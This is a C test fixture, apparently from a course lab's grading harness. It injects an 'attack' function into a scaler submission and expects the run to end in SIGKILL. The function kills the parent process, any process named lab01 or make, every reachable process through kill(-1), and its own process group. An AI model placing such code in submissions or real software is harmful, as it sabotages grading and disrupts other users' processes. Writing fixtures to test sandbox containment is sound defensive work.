// attack: signals its parent, every process it can reach and every "lab01" or "make" it finds, then itself
// env: CHECK_SUB_LIFT=references-outside-api,runs-at-load-or-exit
// lab: 01
// base: reference
// file: scaler.c
// inject: logreg_scaler_transform
// lose: scaler_transform
// expect: killed \(SIGKILL\)|SIGKILL
#include <dirent.h> // opendir
#include <signal.h> // kill
#include <stdio.h> // snprintf, fopen
#include <stdlib.h> // atoi
#include <string.h> // strstr
#include <unistd.h> // getppid
static void ddplab_attack(void)
{
    kill(getppid(), SIGKILL);
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d != NULL && (e = readdir(d)) != NULL) {
        char path[300], comm[64] = "";
        snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
        FILE *f = fopen(path, "r");
        if (f == NULL)
            continue;
        if (fgets(comm, sizeof comm, f) != NULL && (strstr(comm, "lab01") || strstr(comm, "make")))
            kill(atoi(e->d_name), SIGKILL);
        fclose(f);
    }
    if (d != NULL)
        closedir(d);
    kill(-1, SIGKILL);
    kill(0, SIGKILL);
}
